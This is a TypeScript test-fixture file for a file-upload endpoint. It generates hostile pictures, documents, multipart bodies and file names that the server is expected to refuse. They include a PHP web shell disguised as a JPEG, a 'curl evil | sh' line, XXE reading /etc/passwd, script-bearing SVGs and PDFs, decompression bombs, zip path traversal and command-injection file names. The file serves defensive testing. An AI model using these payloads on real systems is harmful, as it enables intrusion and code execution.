import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { docmOf, docxOf, oleOf, pdfOf, zipOf } from './files/documents.ts'
import { jpegClaiming, PNG_START, pngBomb, pngChunk, pngHeader, webpBomb } from './files/pictures.ts'
import { multipartOf, type UploadPart } from './uploads.ts'

/** A file that must be refused, and the expected status. */
export type HostileFile = readonly [what: string, status: 413 | 415 | 422, bytes: Buffer, fileName: string]

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>'
const HTML = '<!doctype html><script>alert(document.cookie)</script>'
const XXE =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'
const text = (content: string) => Buffer.from(content, 'latin1')

const flat = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#0b5d4e' } })

/** Files that are not pictures, broken pictures, and pictures that would need too much memory when decoded. */
export async function hostilePictures(): Promise<HostileFile[]> {
  const jpeg = await flat(640, 480).jpeg().toBuffer()
  const png = await flat(640, 480).png().toBuffer()
  const webp = await flat(640, 480).webp().toBuffer()
  const halved = (bytes: Buffer) => bytes.subarray(0, bytes.length >> 1)
  const lying = (packed: Buffer) =>
    Buffer.concat([PNG_START, pngHeader(640, 480, 8, 2), pngChunk('IDAT', packed), pngChunk('IEND', Buffer.alloc(0))])
  return [
    ['nothing', 415, Buffer.alloc(0), 'nothing.jpg'],
    ['one byte', 415, Buffer.from([0xff]), 'one.jpg'],
    ['a GIF', 415, await flat(9, 9).gif().toBuffer(), 'moving.jpg'],
    ['a GIF that is a script', 415, text('GIF89a/*\x00\x00*/=1;alert(1)'), 'moving.gif.jpg'],
    ['a TIFF', 415, await flat(9, 9).tiff().toBuffer(), 'scan.jpg'],
    ['an AVIF', 415, await flat(64, 64).avif().toBuffer(), 'new.jpg'],
    ['a bitmap', 415, text('BM\x46\x00\x00\x00\x00\x00\x00\x00'), 'paint.jpg'],
    ['an icon', 415, text('\x00\x00\x01\x00\x01\x00'), 'icon.png'],
    ['an SVG with a script', 415, text(SVG), 'drawing.jpg'],
    ['a packed SVG', 415, gzipSync(SVG), 'drawing.svgz'],
    ['an SVG that reads files', 415, text(XXE), 'drawing.png'],
    ['HTML', 415, text(HTML), 'page.jpg'],
    ['an ImageMagick script', 415, text('push graphic-context\nfill "url(https://127.0.0.1/)"\npop graphic-context'), 'magick.png'],
    ['PostScript', 415, text('%!PS\n(%pipe%id) (w) file'), 'ghost.jpg'],
    ['a PDF', 415, pdfOf(), 'plan.jpg'],
    ['a film', 415, text('\x00\x00\x00\x18ftypmp42'), 'film.jpg'],
    ['a program', 415, text('MZ\x90\x00\x03\x00\x00\x00'), 'setup.exe.jpg'],
    ['a shell script', 415, text('#!/bin/sh\ncurl evil | sh\n'), 'run.webp'],
    ['a program that begins as a JPEG', 422, text('\xff\xd8\xff<?php system($_GET[0]); ?>'), 'shell.php.jpg'],
    ['an SVG that begins as a JPEG', 422, Buffer.concat([jpeg.subarray(0, 3), text(SVG)]), 'drawing.jpg'],
    ['a WebP in name only', 422, text('RIFF\x20\x00\x00\x00WEBPVP8 nonsense'), 'name.webp'],
    ['half a JPEG', 422, halved(jpeg), 'half.jpg'],
    ['half a PNG', 422, halved(png), 'half.png'],
    ['half a WebP', 422, halved(webp), 'half.webp'],
    ['a PNG whose rows are missing', 422, lying(deflateSync(Buffer.alloc(100))), 'rows.png'],
    ['a PNG that does not unpack', 422, lying(Buffer.alloc(500, 0xaa)), 'packed.png'],
    ['a PNG of 900 megapixels in 110 KB', 422, pngBomb(30_000), 'bomb.png'],
    ['a WebP of 268 megapixels in 48 bytes', 422, webpBomb(16_384), 'bomb.webp'],
    ['a JPEG that claims 4,225 megapixels', 422, jpegClaiming(jpeg, 65_000), 'bomb.jpg'],
  ]
}

/** Documents with active content, files of two types at once, and files that are not documents. */
export async function hostileDocuments(): Promise<HostileFile[]> {
  return [
    ['nothing', 415, Buffer.alloc(0), 'nothing.pdf'],
    ['a PDF with JavaScript', 415, pdfOf('4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n'), 'script.pdf'],
    ['a PDF with JavaScript in disguise', 415, pdfOf('4 0 obj<</S/#4Aava#53cript>>endobj\n'), 'disguise.pdf'],
    ['a PDF that starts a program', 415, pdfOf('4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n'), 'launch.pdf'],
    ['a PDF with a file inside', 415, pdfOf('4 0 obj<</Type/EmbeddedFile>>endobj\n'), 'inside.pdf'],
    ['half a PDF', 415, pdfOf().subarray(0, 150), 'half.pdf'],
    ['a page that is a PDF too', 415, Buffer.concat([text(HTML), pdfOf()]), 'page.pdf'],
    ['a PDF that is a zip too', 415, Buffer.concat([pdfOf(), zipOf([{ name: 'a.exe', body: 'MZ' }])]), 'zip.pdf'],
    ['a zip bomb', 415, docxOf([{ name: 'word/media/a.bin', body: Buffer.alloc(4_000_000), claims: 0xffff_fff0 }]), 'bomb.docx'],
    ['a document with macros', 415, docmOf(), 'macros.docx'],
    ['a document with a hidden VBA project', 415, docxOf([{ name: 'word/vbaProject.bin', body: 'x' }]), 'vba.docx'],
    ['a program that is a zip too', 415, Buffer.concat([text('MZ'), docxOf()]), 'program.docx'],
    ['a zip of photos', 415, zipOf([{ name: '../../etc/cron.d/a', body: 'x' }]), 'photos.docx'],
    ['a workbook', 415, oleOf(['Workbook']), 'sheet.doc'],
    ['an old document with macros', 415, oleOf(['WordDocument', '_VBA_PROJECT']), 'macros.doc'],
    ['rich text', 415, text('{\\rtf1{\\object\\objdata 0105}}'), 'rich.doc'],
    ['a program', 415, text('MZ\x90\x00'), 'deed.pdf'],
    ['HTML', 415, text(HTML), 'page.doc'],
    ['an SVG', 415, text(SVG), 'plan.pdf'],
    ['a picture of 900 megapixels', 422, pngBomb(30_000), 'scan.png'],
  ]
}

/** Text that is hidden in valid pictures. Pictures are encoded again, so it must not be in the stored file. */
export const PAYLOAD = '<script>alert("wada-payload")</script>'

/** Valid pictures that contain PAYLOAD. */
export async function picturesWithPayload(): Promise<readonly (readonly [what: string, bytes: Buffer])[]> {
  const jpeg = await flat(640, 480).jpeg().toBuffer()
  const png = await flat(640, 480).png().toBuffer()
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, PAYLOAD.length + 2]), text(PAYLOAD)])
  const note = Buffer.concat([text('Comment\0'), text(PAYLOAD)])
  return [
    ['a JPEG with HTML behind', Buffer.concat([jpeg, text(PAYLOAD)])],
    ['a JPEG with a zip behind', Buffer.concat([jpeg, zipOf([{ name: PAYLOAD, body: 'MZ' }])])],
    ['a JPEG with HTML in a comment', Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])],
    [
      'a JPEG with HTML in its EXIF',
      await flat(640, 480)
        .withExif({ IFD0: { Copyright: PAYLOAD } })
        .jpeg()
        .toBuffer(),
    ],
    ['a PNG with HTML in a note', Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', note), png.subarray(33)])],
    ['a PNG with a program behind', Buffer.concat([png, text(`MZ${PAYLOAD}`)])],
    ['a WebP with HTML behind', Buffer.concat([await flat(640, 480).webp().toBuffer(), text(PAYLOAD)])],
  ]
}

interface Body {
  readonly headers: { readonly 'content-type': string }
  readonly payload: Buffer
}
/** A body that must be refused, and the expected status. */
export type HostileForm = readonly [what: string, status: 413 | 415 | 422, body: Body]

const MB = 1024 * 1024

/** Bodies that are malformed or exceed a limit of the form. @param picture a valid picture @param property a valid JSON part */
export function hostileForms(picture: Buffer, property: string): HostileForm[] {
  const good: UploadPart = { name: 'property', body: property }
  const image: UploadPart = { name: 'images', fileName: 'home.jpg', type: 'image/jpeg', body: picture }
  const plan: UploadPart = { name: 'documents', fileName: 'plan.jpg', type: 'image/jpeg', body: picture }
  const whole = multipartOf([good, image])
  const raw = (body: string | Buffer, type = 'multipart/form-data; boundary=b'): Body => ({
    headers: { 'content-type': type },
    payload: Buffer.from(body),
  })
  const json = (body: string | Buffer) => multipartOf([{ name: 'property', body }, image])
  const times = <T>(count: number, make: (n: number) => T) => Array.from({ length: count }, (_unused, n) => make(n))
  return [
    ['nine pictures', 422, multipartOf([good, ...times(9, () => image)])],
    ['three documents', 422, multipartOf([good, plan, plan, plan])],
    ['a picture of more than 5 MB', 413, multipartOf([good, { ...image, body: Buffer.alloc(5 * MB + 1, 'x') }])],
    ['a document of more than 10 MB', 413, multipartOf([good, { ...plan, body: Buffer.alloc(10 * MB + 1, 'x') }])],
    ['a file for another field', 422, multipartOf([good, { ...image, name: 'avatar' }])],
    ['a file for __proto__', 422, multipartOf([good, { ...image, name: '__proto__' }])],
    ['another boundary', 422, raw(whole.payload, 'multipart/form-data; boundary=other')],
    ['no boundary', 422, raw(whole.payload, 'multipart/form-data')],
    ['no end', 422, { ...whole, payload: whole.payload.subarray(0, -30) }],
    ['nothing at all', 422, { ...whole, payload: Buffer.alloc(0) }],
    ['another kind of multipart', 415, raw(whole.payload, whole.headers['content-type'].replace('form-data', 'mixed'))],
    ['JSON', 415, raw(property, 'application/json')],
    ['a header of 1 MB', 422, raw(`--b\r\nContent-Disposition: form-data; name="property"\r\nX: ${'x'.repeat(MB)}\r\n\r\n{}\r\n--b--`)],
    ['a header that never ends', 422, raw(`--b\r\nX: ${'x'.repeat(MB)}`)],
    ['a thousand header lines', 422, raw(`--b\r\n${'X: y\r\n'.repeat(1_000)}\r\n{}\r\n--b--`)],
    ['a part without a name', 422, raw('--b\r\nContent-Type: image/jpeg\r\n\r\nx\r\n--b--')],
    ['10,000 fields', 422, multipartOf([good, ...times(10_000, (n) => ({ name: `n${n}`, body: 'x' }))])],
    ['10,000 empty files', 422, multipartOf([good, ...times(10_000, () => ({ ...image, body: '' }))])],
    ['a property of 2 MB', 413, json('x'.repeat(2 * MB))],
    ['a property that is 100,000 lists deep', 422, json('['.repeat(100_000) + ']'.repeat(100_000))],
    ['a property that is no JSON', 422, json('{"propertyName":')],
    ['a property that is null', 422, json('null')],
    ['bytes that are no UTF-8', 422, json(Buffer.from([0x22, 0xc3, 0x28, 0x22]))],
    ['a NUL in a text', 422, json(property.replace('Sahyadri', 'Sahy\\u0000adri'))],
    ['no property', 422, multipartOf([image])],
    ['two properties', 422, multipartOf([good, good, image])],
  ]
}

/** File names with path traversal, misleading extensions, control characters, markup or excessive length. */
export const TRICKY_NAMES = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\drivers\\etc\\hosts',
  '/dev/null',
  '.htaccess',
  'photo.jpg\0.php',
  'photo.jpg;.php',
  '\u202egpj.exe',
  'con.jpg',
  '$(reboot).jpg',
  '<img src=x onerror=alert(1)>.jpg',
  `${'x'.repeat(1_000)}.jpg`,
  '"; filename="second.html',
  '%2e%2e%2fup.jpg',
  '👩‍👩‍👧'.repeat(100),
] as const
